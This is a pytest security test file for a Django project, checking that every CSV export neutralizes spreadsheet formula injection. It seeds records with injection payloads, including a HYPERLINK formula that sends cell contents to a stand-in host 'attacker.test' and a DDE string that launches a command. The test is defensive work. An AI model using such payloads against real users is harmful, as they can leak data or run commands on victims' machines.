"""No CSV that chwlink writes can run a formula in a spreadsheet: text typed by
people (names, titles, theme names, record numbers, e-mail addresses) that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return comes out with a leading
apostrophe in every export, downloaded by a role allowed to download it; figures
stay numbers. Every export writes through ``chwlink.lib.csv_export``, and nothing
else in the project calls the ``csv`` module's writers."""

import ast
import csv
import io
import pathlib
from decimal import Decimal, InvalidOperation

import pghistory
import pytest
from django.conf import settings
from django.urls import reverse

from chwlink.lib import csv_export
from evaluation.figures import TABLE_KEYS
from evaluation.models import Story, Theme
from evaluation.services import reports
from partners.models import BillingMethod, Organization, Site, StatementLine, User
from partners.tests.factories import PASSWORD
from referrals.models import Patient
from tests.security.conftest import AUTH_BACKEND, project_url_names

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What each seeded field is set to: each starts a formula of its own kind.
SEEDS = {
    "theme": '=HYPERLINK("http://attacker.test/?"&A1,"Open")',
    "story_title": "+SUM(1,1)",
    "story_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "navigator": "-2+3",
    "clinic": "=1+1 Clinic",
    "mrn": "=1+2",
    "cbo": "@Community",
    "email": "+supervisor@willamette.test",
    "url": "\t=cmd",
    "line": "-Accepted referral",
}

# Every CSV download of the project, with the role allowed to take it.
CSV_URLS = {
    "evaluation:export-dataset": "manager",
    "evaluation:export-stories": "manager",
    "evaluation:export-table": "manager",
    "evaluation:report-csv": "manager",
    "partners:statement-csv": "manager",
    "partners:audit-export": "administrator",
    "partners:audit-changes-export": "administrator",
}


def test_every_csv_download_of_the_project_is_checked():
    downloads = {
        name
        for name in project_url_names()
        if name.endswith(("-csv", "-export")) or name.startswith("evaluation:export-")
    }
    assert downloads == set(CSV_URLS)


@pytest.fixture
def seeded(world, client):
    """The world with formula-looking text in every field an export shows, and a
    read and a change recorded by a person whose e-mail starts like a formula."""
    records = world.records
    users = world.users
    Theme.objects.filter(pk=records["theme"].pk).update(name=SEEDS["theme"])
    Story.objects.filter(pk=records["story"].pk).update(
        title=SEEDS["story_title"], deidentified_text=SEEDS["story_text"]
    )
    User.objects.filter(pk=users["navigator"].pk).update(first_name=SEEDS["navigator"])
    for site in Site.objects.filter(organization=world.partnership.health_system):
        Site.objects.filter(pk=site.pk).update(name=f"{SEEDS['clinic']} {site.pk}")
    Organization.objects.filter(pk=world.partnership.cbo_id).update(name=SEEDS["cbo"])
    User.objects.filter(pk=users["supervisor"].pk).update(email=SEEDS["email"])
    patient = records["working"].patient
    with pghistory.context(user=users["supervisor"].pk, url=SEEDS["url"]):
        Patient.objects.filter(pk=patient.pk).update(mrn=SEEDS["mrn"])
    statement = records["statement"]
    StatementLine.objects.create(
        statement=statement,
        period_start=statement.period_start,
        method=BillingMethod.ACCEPTED_REFERRAL,
        description=SEEDS["line"],
        referral=records["working"],
        patient=patient,
        quantity=1,
        unit_amount=Decimal("150.00"),
        amount=Decimal("150.00"),
        earned_on=statement.period_start,
    )
    supervisor = User.objects.get(pk=users["supervisor"].pk)
    client.force_login(supervisor, backend=AUTH_BACKEND)
    client.get(reverse("referrals:patient-detail", args=[patient.code]))
    client.logout()
    # A program report built after the names changed.
    report = reports.report_request(user=users["manager"], query={})
    reports.report_build(report_id=report.pk)
    return {"report": report}


def _urls(name, world, seeded):
    if name == "evaluation:export-table":
        return [reverse(name, kwargs={"table": key}) for key in TABLE_KEYS]
    if name == "evaluation:report-csv":
        return [reverse(name, kwargs={"code": seeded["report"].code})]
    return [reverse(name, kwargs=world.kwargs.get(name, {}))]


def _download(client, url) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"].startswith("text/csv")
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def _formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not _is_number(cell)
    ]


# The seeds each export must show, neutralized: proof the text really got there.
EXPECTED = {
    "evaluation:export-stories": ["story_title", "story_text", "theme"],
    "evaluation:export-table": ["theme", "navigator", "clinic"],
    "evaluation:report-csv": ["navigator", "clinic"],
    "partners:statement-csv": ["mrn", "line"],
    "partners:audit-export": ["email", "cbo"],
    "partners:audit-changes-export": ["email", "url"],
}


@pytest.mark.parametrize("name", sorted(CSV_URLS))
def test_no_cell_of_an_export_starts_a_formula(world, seeded, client, name):
    user = world.users[CSV_URLS[name]]
    if name.startswith("partners:audit"):
        user = User.objects.get(pk=user.pk)
    client.force_login(user, backend=AUTH_BACKEND)
    client.post(reverse("account_reauthenticate"), {"password": PASSWORD})
    texts = [_download(client, url) for url in _urls(name, world, seeded)]
    for text in texts:
        assert _formula_cells(text) == [], name
    cells = {cell for text in texts for row in csv.reader(io.StringIO(text))
             for cell in row}  # fmt: skip
    for seed in EXPECTED.get(name, []):
        shown = "'" + SEEDS[seed]
        assert any(cell.startswith(shown) or shown in cell for cell in cells), (
            name,
            seed,
        )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+15035550100", "'+15035550100"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("7=A", "7=A"),
        ("", ""),
        (-3, "-3"),
        (-2.5, "-2.5"),
        (Decimal("-150.00"), "-150.00"),
        (None, ""),
    ],
)
def test_the_writer_neutralizes_text_and_keeps_numbers(value, written):
    [row] = csv.reader(io.StringIO(csv_export.text([[value]])))
    assert row == [written]


def test_translated_labels_are_written_as_safe_text():
    from django.utils.functional import lazy

    label = lazy(lambda: "=label", str)()
    assert csv_export.safe_cell(label) == "'=label"


ROOT = pathlib.Path(settings.BASE_DIR)
WRITERS = {"writer", "DictWriter"}


def _calls_a_csv_writer(path: pathlib.Path) -> bool:
    tree = ast.parse(path.read_text(), filename=str(path))
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            return True
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and WRITERS & {alias.name for alias in node.names}
        ):
            return True
    return False


def test_no_module_but_the_csv_export_writes_csv_itself():
    sources = [
        path
        for top in ("chwlink", "partners", "referrals", "evaluation", "bench")
        for path in (ROOT / top).rglob("*.py")
        if "tests" not in path.relative_to(ROOT).parts
        and "migrations" not in path.parts
    ]
    assert ROOT / "chwlink/lib/csv_export.py" in sources
    writers = {
        str(path.relative_to(ROOT)) for path in sources if _calls_a_csv_writer(path)
    }
    assert writers == {"chwlink/lib/csv_export.py"}
